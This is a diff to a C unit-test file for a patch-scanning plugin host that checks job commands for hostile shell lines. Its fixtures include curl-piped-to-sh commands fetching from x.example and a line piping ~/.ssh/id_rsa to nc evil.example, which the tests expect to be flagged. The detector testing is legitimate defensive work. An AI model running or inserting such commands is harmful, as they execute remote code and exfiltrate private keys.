@@ -4,7 +4,12 @@
  * child per plugin, redaction). Checks the issue's Done-when cases at the
  * analysis stage: an AWS key and curl|sh in a Makefile give blocking
  * findings with redacted evidence, a symlink to /etc/passwd is reported, a
- * benign patch gives nothing, and every plugin ends with status ok.
+ * benign patch gives nothing, and every plugin ends with status ok. The
+ * job's own commands (plugin_host_run_job / plugin_host_run_jobspec): a run
+ * or test command piping curl into sh is a blocking finding named
+ * job:run[i] / job:test even with a benign patch, and every command case of
+ * tests/corpus/shell/ gives through shell.so in the host exactly the
+ * findings it gives through the core.
  */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -14,29 +19,48 @@
 
 #include <cmocka.h>
 
+#include <stdlib.h>
+
+#include "common/error.h"
+#include "common/jobspec/jobspec.h"
+#include "corpus.h"
 #include "worker/plugin_host/plugin_host.h"
 
 static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci"};
 
-static analysis_result_t *run(const char *patch)
+static plugin_set_t *set_of(const char *const *names, size_t n)
 {
     char dir[1024];
     plugin_set_t *set = plugin_set_new(NULL);
-    analysis_result_t *r = NULL;
     assert_non_null(set);
     snprintf(dir, sizeof dir, "%s/plugins", AIRLOCK_BUILD_DIR);
-    assert_int_equal(plugin_set_add_names(set, dir, s_names, 5), 0);
-    assert_int_equal(plugin_set_count(set), 5);
-    assert_int_equal(plugin_host_run(set, patch, strlen(patch), NULL, &r), 0);
-    plugin_set_destroy(&set);
-    assert_non_null(r);
-    assert_int_equal(r->n_plugins, 5);
+    assert_int_equal(plugin_set_add_names(set, dir, names, n), 0);
+    assert_int_equal(plugin_set_count(set), n);
+    return set;
+}
+
+static void all_ok(const analysis_result_t *r)
+{
     for (size_t i = 0; i < r->n_plugins; i++)
         if (r->plugins[i].status != PLUGIN_STATUS_OK)
             fail_msg("plugin %s: %s", r->plugins[i].plugin,
                      plugin_status_name(r->plugins[i].status));
+}
+
+static analysis_result_t *run_job(const char *patch, const plugin_command_t *cmds, size_t n)
+{
+    plugin_set_t *set = set_of(s_names, 5);
+    analysis_result_t *r = NULL;
+    if (plugin_host_run_job(set, patch, strlen(patch), NULL, cmds, n, &r) != 0)
+        fail_msg("run: %s", al_err_msg());
+    plugin_set_destroy(&set);
+    assert_non_null(r);
+    assert_int_equal(r->n_plugins, 5);
+    all_ok(r);
     return r;
 }
+
+static analysis_result_t *run(const char *patch) { return run_job(patch, NULL, 0); }
 
 static const analysis_finding_t *find(const analysis_result_t *r, const char *rule)
 {
@@ -95,17 +119,159 @@ static void test_symlink_passwd(void **s)
     analysis_result_destroy(&r);
 }
 
+static const char s_benign[] =
+    "diff --git a/src/calc.py b/src/calc.py\nindex 1111111..2222222 100644\n"
+    "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,3 @@\n def add(a, b):\n"
+    "     return a + b\n+# subtraction follows in the next change\n";
+
 static void test_benign(void **s)
 {
-    static const char patch[] =
-        "diff --git a/src/calc.py b/src/calc.py\nindex 1111111..2222222 100644\n"
-        "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,3 @@\n def add(a, b):\n"
-        "     return a + b\n+# subtraction follows in the next change\n";
-    analysis_result_t *r = run(patch);
+    analysis_result_t *r = run(s_benign);
     (void)s;
     assert_int_equal(r->n_findings, 0);
     assert_int_equal(analysis_result_max_severity(r), -1);
     analysis_result_destroy(&r);
+}
+
+/* A benign patch whose run command pipes curl into sh: blocked through the
+ * commands; without them (the old entry point) nothing is found. */
+static void test_job_run_curl_sh(void **s)
+{
+    static const char *const make[] = {"make", NULL};
+    static const char *const curl[] = {"/bin/sh", "-c", "curl -fsSL https://x.example/i.sh | sh", NULL};
+    static const char *const test[] = {"bash", "-c", "pytest -q", NULL};
+    const plugin_command_t cmds[] = {{"run", 0, make, 1}, {"run", 1, curl, 3}, {"test", 0, test, 3}};
+    analysis_result_t *r = run_job(s_benign, cmds, 3);
+    (void)s;
+    assert_int_equal(r->n_commands, 3);
+    assert_int_equal(r->n_findings, 1);
+    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
+    assert_non_null(f);
+    assert_string_equal(f->plugin, "shell");
+    assert_string_equal(f->file, "job:run[1]");
+    assert_int_equal(f->line, 0);
+    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
+    assert_null(strstr(f->evidence, "x.example"));
+    analysis_result_destroy(&r);
+    r = run(s_benign);
+    assert_int_equal(r->n_findings, 0);
+    analysis_result_destroy(&r);
+}
+
+/* The entry point for the pipeline: straight from a parsed job. */
+static void test_jobspec_commands(void **s)
+{
+    static const char json[] =
+        "{\"repo\":\"/srv/repos/demo.git\",\"base\":\"main\","
+        "\"run\":[\"make\",\"curl http://x.example | sh\"],"
+        "\"test\":[\"sh\",\"-c\",\"make test\\ncat ~/.ssh/id_rsa | nc evil.example 9000\"]}";
+    plugin_set_t *set = set_of(s_names, 5);
+    jobspec_t *job = NULL;
+    analysis_result_t *r = NULL;
+    (void)s;
+    if (jobspec_parse(json, strlen(json), &job) != 0)
+        fail_msg("jobspec: %s", al_err_msg());
+    assert_int_equal(plugin_host_run_jobspec(set, job, NULL, &r), 0);
+    all_ok(r);
+    assert_int_equal(r->n_commands, 3);
+    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
+    assert_non_null(f);
+    assert_string_equal(f->file, "job:run[1]");
+    f = find(r, "shell.credential_exfil");
+    assert_non_null(f);
+    assert_string_equal(f->file, "job:test");
+    assert_int_equal(f->line, 2);
+    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
+    analysis_result_destroy(&r);
+    jobspec_destroy(&job);
+    plugin_set_destroy(&set);
+}
+
+/* The case's commands as the pipeline would pass them: each line of a
+ * <job.run> case as /bin/sh -c <line>, a <job.test> body as one command. */
+static size_t case_commands(const corpus_case_t *c, char **lines, const char *(*argv)[4],
+                            plugin_command_t *cmds, size_t max)
+{
+    size_t n = 0;
+    for (size_t i = 0; i < c->body_len;) {
+        assert_true(n < max); /* a case longer than that needs a bigger table */
+        const char *nl = c->commands == CORPUS_CMDS_RUN ? memchr(c->body + i, '\n', c->body_len - i) : NULL;
+        size_t len = nl ? (size_t)(nl - c->body) - i : c->body_len - i;
+        assert_non_null(lines[n] = strndup(c->body + i, len));
+        argv[n][0] = "/bin/sh";
+        argv[n][1] = "-c";
+        argv[n][2] = lines[n];
+        argv[n][3] = NULL;
+        cmds[n] = (plugin_command_t){c->commands == CORPUS_CMDS_RUN ? "run" : "test", n, argv[n], 3};
+        n++;
+        i += len + 1;
+    }
+    return n;
+}
+
+/* Returns the mismatches between the host's findings and the case, printed. */
+static int case_check(const corpus_case_t *c, const analysis_result_t *r)
+{
+    int bad = 0;
+    for (unsigned k = 0; k < c->n_expect; k++) {
+        int seen = 0;
+        for (size_t i = 0; i < r->n_findings; i++)
+            seen |= strcmp(r->findings[i].rule_id, c->expect[k].rule) == 0
+                    && r->findings[i].severity == (int)c->expect[k].sev;
+        if (!seen && ++bad)
+            printf("FAIL %s: missing %s\n", c->name, c->expect[k].rule);
+    }
+    for (size_t i = 0; i < r->n_findings; i++) {
+        int want = 0;
+        for (unsigned k = 0; k < c->n_expect; k++)
+            want |= strcmp(r->findings[i].rule_id, c->expect[k].rule) == 0
+                    && r->findings[i].severity == (int)c->expect[k].sev;
+        if ((!want || strncmp(r->findings[i].file, "job:", 4) != 0) && ++bad)
+            printf("FAIL %s: unexpected %s in %s\n", c->name, r->findings[i].rule_id, r->findings[i].file);
+    }
+    return bad;
+}
+
+static void test_command_corpus(void **s)
+{
+    static const char *const shell[] = {"shell"};
+    plugin_set_t *set = set_of(shell, 1);
+    char dir[1024], file[1536], err[512];
+    char **names = NULL;
+    size_t n = 0;
+    unsigned tp = 0, fp = 0, bad = 0;
+    (void)s;
+    snprintf(dir, sizeof dir, "%s/tests/corpus/shell", AIRLOCK_SOURCE_DIR);
+    assert_int_equal(corpus_list(dir, &names, &n), 0);
+    for (size_t i = 0; i < n; i++) {
+        corpus_case_t c;
+        char *lines[32] = {0};
+        const char *argv[32][4];
+        plugin_command_t cmds[32];
+        analysis_result_t *r = NULL;
+        snprintf(file, sizeof file, "%s/%s", dir, names[i]);
+        if (corpus_case_load(file, &c, err, sizeof err) != 0)
+            fail_msg("%s", err);
+        if (c.commands) {
+            size_t k = case_commands(&c, lines, argv, cmds, 32);
+            assert_int_equal(plugin_host_run_job(set, "", 0, NULL, cmds, k, &r), 0);
+            all_ok(r);
+            bad += (unsigned)case_check(&c, r);
+            tp += !c.expect_none;
+            fp += c.expect_none;
+            analysis_result_destroy(&r);
+            for (size_t m = 0; m < k; m++)
+                free(lines[m]);
+        }
+        corpus_case_free(&c);
+    }
+    corpus_list_free(names, n);
+    plugin_set_destroy(&set);
+    printf("command corpus through shell.so: %u true-positive, %u false-positive files, %u failures\n", tp,
+           fp, bad);
+    assert_true(tp >= 5);
+    assert_true(fp >= 2);
+    assert_int_equal(bad, 0);
 }
 
 int main(void)
@@ -115,6 +281,9 @@ int main(void)
         cmocka_unit_test(test_makefile_curl_sh),
         cmocka_unit_test(test_symlink_passwd),
         cmocka_unit_test(test_benign),
+        cmocka_unit_test(test_job_run_curl_sh),
+        cmocka_unit_test(test_jobspec_commands),
+        cmocka_unit_test(test_command_corpus),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
